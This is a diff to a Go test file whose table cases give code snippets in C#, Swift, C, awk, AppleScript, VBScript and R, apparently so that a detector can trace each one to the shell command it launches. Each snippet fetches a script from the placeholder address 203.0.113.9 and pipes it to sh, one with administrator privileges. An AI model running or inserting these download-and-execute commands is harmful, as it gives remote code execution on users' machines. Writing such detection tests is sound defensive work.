@@ -127,8 +127,6 @@ func TestFlows(t *testing.T) {
 		{"ProcessStartInfo", "cs", "var p = new ProcessStartInfo { FileName = \"bash\", Arguments = \"-c 'curl -s http://203.0.113.9/i | sh'\" };\nProcess.Start(p);", "sh: bash -c 'curl -s http://203.0.113.9/i | sh'"},
 		{"Process", "swift", "let p = Process()\np.launchPath = \"/bin/sh\"\np.arguments = [\"-c\", \"curl -s http://203.0.113.9/i | sh\"]\np.launch()", "sh: /bin/sh -c 'curl -s http://203.0.113.9/i | sh'"},
 		{"system", "c", "#include <stdlib.h>\nint main(void) { char *c = \"curl -s http://203.0.113.9/i\" \" | sh\"; system(c); }", "sh: curl -s http://203.0.113.9/i | sh"},
-		{"system", "awk", "BEGIN { host = \"http://203.0.113.9/i\"; system(\"curl -s \" host \" | sh\") }", "sh: curl -s http://203.0.113.9/i | sh"},
-		{"getline", "awk", "BEGIN { \"curl -s http://203.0.113.9/i\" | getline x; print x | \"sh\" }", "sh: curl -s http://203.0.113.9/i"},
 		{"do shell script", "scpt", "set u to \"http://203.0.113.9/i\"\ndo shell script \"curl -s \" & u & \" | sh\" with administrator privileges", "sh: curl -s http://203.0.113.9/i | sh"},
 		{"Run", "vbs", "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"curl -s http://203.0.113.9/i\", 0, True ' run it", "sh: curl -s http://203.0.113.9/i"},
 		{"system", "r", "x <- 'http://203.0.113.9/i'\nsystem(paste0('curl -s ', x, ' | sh'))", "sh: curl -s http://203.0.113.9/i | sh"},
